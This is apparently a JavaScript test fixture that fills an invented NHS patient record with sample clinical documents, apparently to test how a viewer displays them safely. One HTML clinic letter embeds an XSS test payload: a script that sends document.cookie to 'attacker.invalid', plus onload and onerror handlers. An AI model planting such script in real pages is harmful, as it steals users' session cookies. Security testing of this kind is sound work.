import { at } from '../dates.mjs';
import { KIND, addDocument } from '../documents.mjs';
import { pdf, png, tiff } from '../files.mjs';

const HEAD = ['FERNILEE, Marguerite Rose', 'Born 14-Mar-1958    NHS number 999 000 0018', ''];
const page = (title, ...lines) => [title, '', ...HEAD, ...lines, '', 'Invented for demonstration. Nobody real is meant.'];
const plain = (text) => ({ contentType: 'text/plain', bytes: Buffer.from(text) });
const asPdf = (...pages) => ({ contentType: 'application/pdf', bytes: pdf(pages) });

/** As a practice system sends it, script included: whoever shows it must not run it. */
const HTML = `<!DOCTYPE html>
<html lang="en-GB"><head><title>Clinic letter</title><style>body{font-family:serif}</style></head><body onload="document.title='ran'">
<h1>Renal clinic letter</h1><p>Dear Dr Fallowmere,</p>
<p>I reviewed <b>Mrs Fernilee</b> after her admission in March. Her potassium is <em>5.10 mmol/L</em> (range 3.5&ndash;5.3). I have discharged her from the clinic; please refer her again should it rise.</p>
<script>window.top.demoScriptRan = true; fetch('https://attacker.invalid/?' + document.cookie)</script>
<img src="https://attacker.invalid/pixel.png" onerror="window.top.demoScriptRan = true" alt="">
<table><tr><th>Date</th><th>eGFR</th></tr><tr><td>07-Jul-2026</td><td>45</td></tr></table></body></html>`;

const wound = (x, y) => {
  const distance = Math.hypot((x - 160) / 1.4, y - 120);
  return Math.round(distance < 60 ? 70 + distance : 205 - Math.min(40, distance / 6));
};

export function addDocuments(record) {
  const old = addDocument(record, { title: 'Discharge summary, 20-Mar-2026 (first version)', kind: KIND.discharge(), ...asPdf(page('Discharge summary', 'Acute kidney injury.')), date: at('2026-03-20', '13:30'), ods: 'RTG', by: 'wardDoctor', status: 'superseded' });
  addDocument(record, { title: 'Discharge summary, 20-Mar-2026', kind: KIND.discharge(), ...asPdf(
    page('Discharge summary', 'Admitted 09-Mar-2026, discharged 20-Mar-2026, ward 407.', 'Diagnosis: acute kidney injury with potassium 6.8 mmol/L.', 'Metformin stopped. Prednisolone reducing course.'),
    page('Discharge summary, page 2', 'GP to repeat U&E in one week.')), date: at('2026-03-21', '09:10'), ods: 'RTG', by: 'wardDoctor', relatesTo: old, start: '2026-03-09', end: '2026-03-20', setting: 'General medicine' });
  addDocument(record, { title: 'ReSPECT form', kind: KIND.respect(), category: KIND.plan(), ...asPdf(page('ReSPECT', 'CPR attempts NOT recommended.', 'Hospital treatment wanted for reversible illness. Not for intensive care.')), date: at('2026-03-18', '16:45'), ods: 'RTG', by: 'wardDoctor' });
  addDocument(record, { title: 'Rheumatology clinic letter', kind: KIND.letter(), ...asPdf(page('Clinic letter', 'Methotrexate 15 mg once a week continues.')), date: at('2026-07-15', '10:02'), ods: 'RTG', by: 'rheumatologist', setting: 'Rheumatology' });
  addDocument(record, { title: 'Renal clinic letter', kind: KIND.letter(), contentType: 'text/html', bytes: Buffer.from(HTML), date: at('2026-07-21', '12:00'), ods: 'RTG', by: 'nephrologist', setting: 'Nephrology' });
  addDocument(record, { title: 'Cardiology letter', kind: KIND.letter(), ...plain('Cardiology, Chesterfield Royal Hospital\n\nAtrial fibrillation, rate controlled.\nContinue warfarin, target INR 2.0-3.0.\n\tReview in twelve months.\n'), date: '2025-11-06', ods: 'C8X901', by: 'cardiologist' });
  addDocument(record, { title: 'Referral to nephrology', kind: KIND.referral(), ...plain('Dear colleague,\n\nPotassium 5.7 mmol/L, eGFR 42.\nRamipril stopped today.\n'), date: at('2026-11-18', '16:34'), ods: 'C8X901', by: 'gp' });
  addDocument(record, { title: 'Out of hours consultation', kind: KIND.letter(), ...plain('Telephone consultation, 25-Oct-2026 01:40.\nDysuria. Advised to see own GP.\n'), date: at('2026-10-25', '02:05'), ods: 'X9D01', by: 'outOfHours' });
  addDocument(record, { title: 'Personalised care and support plan (signed copy)', kind: KIND.plan(), ...asPdf(page('Care and support plan', 'See the plan of 20-Sep-2026.')), date: at('2026-09-20', '12:10'), ods: 'RY8', by: 'districtNurse' });
  addDocument(record, { title: 'Photograph, left lower leg wound', kind: KIND.image(), contentType: 'image/png', bytes: png(320, 240, wound), date: at('2026-10-06', '10:20'), ods: 'RY8', by: 'districtNurse' });
  addDocument(record, { title: 'Lung function report', kind: KIND.procedure(), ...asPdf(page('Spirometry', 'FEV1 1.62 L (74% predicted), FEV1/FVC 0.68.')), date: '2024-01', ods: 'RTG' });
  addDocument(record, { title: 'Scanned letter, 1998', kind: KIND.letter(), contentType: 'image/tiff', bytes: tiff(320, 440), date: '1998', ods: 'C8X901' });
  addDocument(record, { title: 'Safeguarding case conference minutes', kind: KIND.letter(), ...asPdf(page('Minutes', 'Not released.')), date: at('2026-10-02', '15:00'), ods: 'X9C01', by: 'socialWorker', released: false, secret: true });
  addDocument(record, { title: 'Financial assessment', kind: KIND.plan(), ...plain('Assessment under way.\n'), date: '2026-11', ods: 'X9C01', docStatus: 'preliminary' });
  addDocument(record, { title: 'Letter filed to the wrong record', kind: KIND.letter(), ...plain('Filed in error.\n'), date: '2025-02-02', ods: 'RTG', status: 'entered-in-error' });
}
